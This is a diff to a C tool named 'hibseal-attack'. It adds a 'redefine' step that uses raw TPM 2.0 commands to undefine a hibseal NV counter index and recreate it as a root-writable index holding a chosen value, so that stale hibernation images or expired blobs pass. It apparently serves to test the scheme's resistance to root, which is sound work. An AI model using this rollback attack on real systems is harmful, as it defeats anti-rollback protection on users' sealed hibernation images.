@@ -9,6 +9,10 @@
  *                               in the image header on DEV in place of the real one
  *   hibseal-attack extend PCR   extend PCR (SHA-256 bank) with a digest of root's: the window
  *                               PCR, say, so that sealing gives up
+ *   hibseal-attack redefine INDEX VALUE
+ *                               undefine the NV index INDEX (owner authorization, empty) and
+ *                               define root's own there: an ordinary 8-byte index root may write,
+ *                               holding VALUE (big-endian), as a counter would
  *
  * Raw TPM 2.0 commands through /dev/tpmrm0 (the resource manager flushes what we leave).
  * Prints "attack: STEP rc=0xNNN" for each step. Exit status: 0 when every step ran (whatever
@@ -289,6 +293,61 @@ static int attack_extend(int tpm, uint32_t pcr)
 	return rc < 0 ? -1 : 0;
 }
 
+/*
+ * Replace one of hibseal's counters by an index of root's at the same handle, holding a value of
+ * root's choosing: an old image's counter value, or a blob epoch an expired blob allows.
+ */
+static int attack_redefine(int tpm, uint32_t index, uint64_t value)
+{
+	struct buf c, r;
+	long rc;
+
+	start(&c, 0x8002, 0x122);		/* TPM2_NV_UndefineSpace */
+	put(&c, 0x40000001, 4);
+	put(&c, index, 4);
+	password_auth(&c);
+	rc = transact(tpm, &c, &r);
+	printf("attack: undefine index=0x%08x rc=0x%03lx\n", index, rc);
+	start(&c, 0x8002, 0x12a);		/* TPM2_NV_DefineSpace */
+	put(&c, 0x40000001, 4);
+	password_auth(&c);
+	put(&c, 0, 2);				/* auth: empty */
+	put(&c, 14, 2);
+	put(&c, index, 4);
+	put(&c, 0x000b, 2);
+	put(&c, (1u << 2) | (1u << 18) | (1u << 25), 4);	/* AUTHWRITE AUTHREAD NO_DA, ordinary */
+	put(&c, 0, 2);
+	put(&c, 8, 2);
+	rc = transact(tpm, &c, &r);
+	printf("attack: define index=0x%08x rc=0x%03lx\n", index, rc);
+	if (rc)
+		return rc < 0 ? -1 : 0;
+	start(&c, 0x8002, 0x137);		/* TPM2_NV_Write */
+	put(&c, index, 4);
+	put(&c, index, 4);
+	password_auth(&c);
+	put(&c, 8, 2);
+	put(&c, (uint32_t)(value >> 32), 4);
+	put(&c, (uint32_t)value, 4);
+	put(&c, 0, 2);
+	rc = transact(tpm, &c, &r);
+	printf("attack: write index=0x%08x value=%llu rc=0x%03lx\n", index,
+	       (unsigned long long)value, rc);
+	start(&c, 0x8002, 0x14e);		/* TPM2_NV_Read, to show what is there now */
+	put(&c, index, 4);
+	put(&c, index, 4);
+	password_auth(&c);
+	put(&c, 8, 2);
+	put(&c, 0, 2);
+	rc = transact(tpm, &c, &r);
+	if (!rc && r.n >= 10 + 4 + 2 + 8)
+		printf("attack: read index=0x%08x value=%llu\n", index,
+		       (unsigned long long)((uint64_t)get(r.d + 16, 4) << 32 | get(r.d + 20, 4)));
+	else
+		printf("attack: read index=0x%08x rc=0x%03lx\n", index, rc);
+	return 0;
+}
+
 int main(int argc, char **argv)
 {
 	uint8_t hdr[PAGE];
@@ -303,8 +362,17 @@ int main(int argc, char **argv)
 		}
 		return attack_extend(tpm, (uint32_t)atoi(argv[2])) ? 1 : 0;
 	}
+	if (argc == 4 && !strcmp(argv[1], "redefine")) {
+		tpm = open("/dev/tpmrm0", O_RDWR);
+		if (tpm < 0) {
+			fprintf(stderr, "hibseal-attack: /dev/tpmrm0: %s\n", strerror(errno));
+			return 1;
+		}
+		return attack_redefine(tpm, (uint32_t)strtoul(argv[2], NULL, 0),
+				       strtoull(argv[3], NULL, 0)) ? 1 : 0;
+	}
 	if (argc != 3 || (strcmp(argv[1], "unseal") && strcmp(argv[1], "forge"))) {
-		fprintf(stderr, "usage: hibseal-attack unseal|forge DEVICE | extend PCR\n");
+		fprintf(stderr, "usage: hibseal-attack unseal|forge DEVICE | extend PCR | redefine INDEX VALUE\n");
 		return 2;
 	}
 	dev = open(argv[2], O_RDWR);
